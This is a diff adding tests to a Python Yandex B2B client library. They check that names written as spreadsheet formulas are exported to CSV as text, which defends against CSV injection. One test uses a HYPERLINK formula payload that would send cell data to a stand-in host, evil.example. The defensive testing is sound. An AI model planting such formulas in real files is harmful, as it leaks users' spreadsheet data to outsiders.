@@ -9,6 +9,8 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from yandex_b2b_async import (
     UNSET,
@@ -653,3 +655,34 @@ async def test_an_export_falls_back_to_ids_where_a_name_would_not_read_back(
         assert rows[0].value is not None, rows[0].error
         assert (rows[0].value.cost_centers_id, rows[0].value.department_id) == (twin, odd)
         assert not await client.users.plan_sync([rows[0].value])
+
+
+async def test_an_exported_name_a_spreadsheet_would_run_is_written_as_text(
+    b2b_sandbox: Sandbox, tmp_path: Path
+) -> None:
+    """A name typed as a formula is exported with Excel's text apostrophe (no CSV injection)
+    and reads back as the name it is, so export then sync still changes nothing."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"x")'
+    b2b_sandbox.add_user(
+        phone="+79001234567", fullname=formula, cost_centers_id=b2b_sandbox.cost_center_id
+    )
+    path = tmp_path / "export.csv"
+    async with B2BClient(b2b_sandbox.token, base_url=b2b_sandbox.url) as client:
+        await export_users(client, path)
+        written = path.read_text(encoding="utf-8-sig")
+        rows = list(read_users_csv(path, names=await resolve_file_names(client, path)))
+        plan = await client.users.plan_sync([row.value for row in rows if row.value])
+    assert "'=HYPERLINK" in written
+    assert "+79001234567" in written
+    assert [row.value.fullname for row in rows if row.value] == [formula]
+    assert not plan, plan.describe()
+
+
+@given(st.text(max_size=12))
+def test_a_guarded_cell_reads_back_as_it_was(text: str) -> None:
+    """Any text survives the formula guard and the reader's removal of it unchanged."""
+    from yandex_b2b_async.hr.tables import _unguarded, spreadsheet_text
+
+    assert _unguarded(spreadsheet_text(text)) == text
+    if not text.startswith("'"):
+        assert _unguarded(text) == text
